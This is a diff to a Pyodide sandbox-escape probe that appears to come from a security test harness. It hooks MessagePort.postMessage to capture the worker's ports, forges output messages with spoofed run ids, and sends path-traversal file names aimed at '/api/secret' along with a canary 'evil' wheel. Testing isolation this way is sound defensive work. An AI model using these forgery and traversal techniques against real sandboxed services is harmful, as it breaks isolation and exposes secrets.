@@ -14,7 +14,10 @@ js.eval("""(() => {
   MessagePort.prototype.postMessage = function (message, transfer) {
     if (!ports.includes(this)) ports.push(this);
     // Output events only: a run announces its own id as it starts, and that id is the forger's own.
-    if (message && message.type === 'output' && typeof message.runId === 'number') runIds.push(message.runId);
+    if (message && message.type === 'output' && typeof message.runId === 'number') {
+      runIds.push(message.runId);
+      self.__eventsPort = this;
+    }
     return post.call(this, message, transfer);
   };
 })()""")
@@ -32,8 +35,10 @@ def o(d):
     return to_js(d, dict_converter=js.Object.fromEntries)
 this_run = max(js.__runIds) + 1
 print(js.__ports.length, "ports to forge on", flush=True)
+# The events port first, behind the count on the same port: a forgery on the calls port stops the worker at once.
+ports = js.eval("[self.__eventsPort, ...self.__ports.filter((p) => p !== self.__eventsPort)]")
 names = ["${t.canary}/evil-1.0-py3-none-any.whl", "../api/secret", "/api/secret", "${t.host}/api/secret", "micropip-0.11.1-py3-none-any.whl/../../api/secret"]
-for port in js.__ports:
+for port in ports:
     for run_id in [0, this_run - 1, this_run + 1, 10**6]:
         port.postMessage(o({"type": "output", "runId": run_id, "stream": "stdout", "text": f"FORGED-output-{run_id}"}))
     for i, name in enumerate(names):
